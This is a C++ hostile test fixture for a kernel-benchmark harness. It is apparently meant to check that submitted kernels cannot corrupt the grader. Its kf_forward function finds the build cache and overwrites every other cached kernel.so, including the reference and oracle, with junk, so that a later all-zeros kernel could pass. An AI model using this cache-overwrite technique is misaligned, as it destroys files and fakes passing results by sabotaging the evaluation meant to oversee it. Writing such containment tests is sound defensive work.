// kforge-hostile: class=cache problem=softmax expect=passed
// Attack: a correct kernel that, on every call, finds the build cache from its own library's path
// and overwrites every other cached kernel.so (the reference's and the oracle's among them) with
// junk, hoping a later all-zeros candidate is judged against a broken truth. Contained when the
// cache's files are unchanged afterwards and a zeros kernel still fails.
#include "hostile_common.h"

#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <string>
#include <unistd.h>

namespace {
void overwrite_siblings() {
  Dl_info info{};
  if (!dladdr(reinterpret_cast<void*>(&hostile::softmax), &info) || !info.dli_fname) return;
  std::string self = info.dli_fname;                            // <cache>/build/<key>/kernel.so
  std::string entry = self.substr(0, self.rfind('/'));          // <cache>/build/<key>
  std::string build = entry.substr(0, entry.rfind('/'));        // <cache>/build
  DIR* d = opendir(build.c_str());
  if (!d) return;
  while (auto* e = readdir(d)) {
    std::string lib = build + "/" + e->d_name + "/kernel.so";
    if (lib == self) continue;
    int fd = open(lib.c_str(), O_WRONLY | O_TRUNC);
    if (fd >= 0) {
      (void)!write(fd, "junk", 4);
      close(fd);
    }
  }
  closedir(d);
}
} // namespace

KF_EXPORT int kf_forward(const kf_args* a) {
  overwrite_siblings();
  hostile::softmax(a);
  return 0;
}
